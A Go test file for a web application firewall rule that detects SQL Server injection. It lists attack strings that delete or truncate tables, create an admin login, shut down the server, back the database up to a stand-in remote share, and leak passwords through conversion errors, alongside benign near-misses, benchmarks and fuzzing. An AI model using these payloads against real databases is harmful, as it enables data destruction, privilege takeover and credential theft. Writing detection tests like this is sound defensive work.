package waf

import (
	"strings"
	"testing"
)

// tsqlAttacks are attack 73's: SQL Server statements after a closed quote
// with no ';' (SQL Server runs them: delete, insert, truncate, create
// login, alter server role, grant, backup to a share, shutdown, a loop),
// and conversions to a number whose error shows the value
// ('+convert(int,password)+'); each passed the CRS and the gateway in
// every place.
var tsqlAttacks = []string{"x' delete from users--", "x' delete users--", "admin' delete from users--",
	"x' insert into users(name,role) values('me','admin')--", "x' insert users values('a','b')--", "x' insert into users select * from users--",
	"x' insert into users values('me','admin','", "x' delete from users where 'a'='a", "x' truncate table logs select '",
	"x' truncate table audit_log--", "x'truncate table audit_log--", "x'\ntruncate table audit_log--", "X' TRUNCATE TABLE AUDIT_LOG--",
	"x' create login hacker with password='P@ssw0rd1'--", "x' create user hacker for login hacker--",
	"x' alter server role sysadmin add member hacker--", "x' alter login sa with password='x'--", "x' alter login sa enable--",
	"x' grant control to public--", "x' revoke control from public--", "x' deny select on users to public--",
	`x' backup database app to disk='\\x.example\a'--`, `x' bulk insert t from '\\x.example\a'--`, "x' alter table users drop column password--",
	"x' alter database app set offline--", "x' create table t(a int)--", "x' disable trigger all on users--", "x' dbcc freeproccache--",
	"x' merge users using users as s on 1=1 when matched then delete;--", "x' shutdown--", "' shutdown--", "x' shutdown with nowait--",
	"1 shutdown with nowait", "x' while 1=1 begin print 1 end--", "x' execute as login='sa'--", "x' raiserror('%s',16,1,@@version)--",
	"x' throw 50000,@@version,1--", "'+convert(int,password)+'", "'+convert(int,case when username='admin' then password else 1 end)+'",
	"'+parse(password as int)+'", "'+convert(numeric,password)+'", "'+convert(int,password,1)+'", "'+CoNvErT(int,password)+'",
	"'+convert/**/(int,password)+'", "'+convert(int,@@version)+'", "'+try_convert(int,@@version)+'", "'||convert(int,password)||'",
	"1+convert(int,password)", "convert(int,password)", "1-convert(int,@@version)",
	// a CASE joined to the quote (a review, noted since attack 71)
	"'+case username when 'admin' then password else 1 end+'",
	"'+case/**/username/**/when/**/'admin'/**/then/**/password/**/end+'"}

// tsqlBenign are near-misses: the words in prose, after a quote too.
var tsqlBenign = []string{"Click 'Edit' then delete the row", "Press 'Delete' to delete items from the list", "the 'insert' key",
	"He said 'truncate it' and left", "Use 'create user' in the admin panel", "Choose 'Backup' and pick a disk", "Type 'shutdown now' to stop",
	"Use CONVERT(int, x) in T-SQL to convert", "'a'+'b' makes ab", "while 1 begins", "I'll grant you that", "We'd like to insert coins",
	"'Merge' the branches", "5 shutdowns this year", "in case x when done then stop else go end",
	"Use CASE status WHEN 'A' THEN 'Active' ELSE 'Other' END in your query", "'a'+case closed", "x'+case closed, then when it ends"}

// TestTSQLStatement: rule 210201 refuses tsqlAttacks through a real Caddy
// (in the query and in JSON), and no near-miss.
func TestTSQLStatement(t *testing.T) {
	operatorTable(t, "210201", tsqlStatement, tsqlAttacks, []string{"x'||case username when 'admin' then password end||'", "x' + CASE WHEN 1=1 THEN 'a' ELSE 'b' END + '"}, tsqlBenign)
}

// TestCPUBoundTSQL: repetitions of rule 210201's shapes through a real
// Caddy cost what any value of their size does (each quote is read on
// over a few words, comments' ends searched once).
func TestCPUBoundTSQL(t *testing.T) {
	repeatedJSONUnder(t, "' delete from ", "'+convert(", "' while 1=1 ", "'--", "' insert ", "' grant x ", "'+parse(", "' while 1+1+1+1+", "'+case when then ")
}

// BenchmarkTSQLStatement: the operator on 16 KiB of its shapes.
func BenchmarkTSQLStatement(b *testing.B) {
	for _, unit := range []string{"' delete from ", "'+convert(", "' while 1+1+1+1+", "'+case when then ", "' if ", "' begin ", "' while x ", "') ", "' delete from x '", "' print 1 delete from x ", "' grant a, "} {
		v := strings.Repeat(unit, 16384/len(unit))
		b.Run(strings.TrimSpace(unit), func(b *testing.B) {
			for b.Loop() {
				tsqlStatement(v)
			}
		})
	}
}

// FuzzTSQLStatement: any value is read without a panic.
func FuzzTSQLStatement(f *testing.F) {
	for _, v := range concat(tsqlAttacks, tsqlBenign, tsqlBatchAttacks, tsqlBatchBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { tsqlStatement(v) })
}
